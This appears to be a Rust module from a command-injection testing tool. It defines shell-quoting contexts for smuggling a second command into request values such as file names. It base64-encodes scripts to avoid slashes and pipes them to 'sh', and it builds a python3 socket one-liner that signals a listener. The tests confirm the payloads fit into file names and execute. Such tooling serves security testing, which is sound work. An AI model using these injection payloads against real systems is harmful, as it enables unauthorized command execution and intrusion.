//! How text becomes a command: the quoting contexts that code puts request text into.

use std::net::SocketAddr;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// What stands before and after a command so that a shell runs it.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Context(&'static str, &'static str);

/// Unquoted, in single and in double quotes; no slash in any, since text that becomes a file's name loses it.
pub(crate) const CONTEXTS: [Context; 10] = [
    Context(";", ""),
    Context("$(", ")"),
    Context("`", "`"),
    Context("|", ""),
    Context("&&", ""),
    Context("\n", "\n"),
    Context("';", ";'"),
    Context("\";", ";\""),
    Context("'$(", ")'"),
    Context(";", ";#"),
];

impl Context {
    /// The value with the command in it. The value itself stays in front: code may look at how it begins.
    pub(crate) fn wrap(self, value: &str, command: &str) -> String {
        format!("{value}{}{command}{}", self.0, self.1)
    }
}

/// The same shell script without a slash and without a quote.
pub(crate) fn through_slashes(script: &str) -> String {
    // A space in front shifts every group of the encoding until none of them is written with a slash.
    let padded = (0..12).map(|spaces| STANDARD.encode(format!("{}{script}", " ".repeat(spaces))));
    let encoded = padded.into_iter().find(|text| !text.contains('/')).unwrap_or_else(|| STANDARD.encode(script));
    format!("echo {encoded}|base64 -d|sh")
}

/// A shell script that says a word to a listener.
pub(crate) fn script(address: SocketAddr, word: &str) -> String {
    let (ip, port) = (address.ip(), address.port());
    format!("python3 -c \"import socket;socket.create_connection(('{ip}',{port}),1).send(b'{word}')\"")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_script_travels_without_slashes_and_fits_into_a_file_name() {
        let address = "127.0.0.1:40000".parse().unwrap();
        let sent = CONTEXTS[0].wrap("a.txt", &through_slashes(&script(address, "out-0123456789abcdef")));
        assert!(!sent.contains('/'), "{sent}");
        assert!(sent.len() < 250, "{}", sent.len());
    }

    #[test]
    fn a_shell_computes_what_the_request_does_not_name() {
        let product = crate::chance::Product::new();
        for context in [CONTEXTS[0], CONTEXTS[1], CONTEXTS[2], CONTEXTS[4], CONTEXTS[5], CONTEXTS[9]] {
            let line = format!("echo {}", context.wrap("x", &product.command()));
            assert!(!line.contains(&product.printed()));
            let out = std::process::Command::new("sh").arg("-c").arg(&line).output().unwrap();
            assert!(String::from_utf8_lossy(&out.stdout).contains(&product.printed()), "{line}");
        }
    }
}
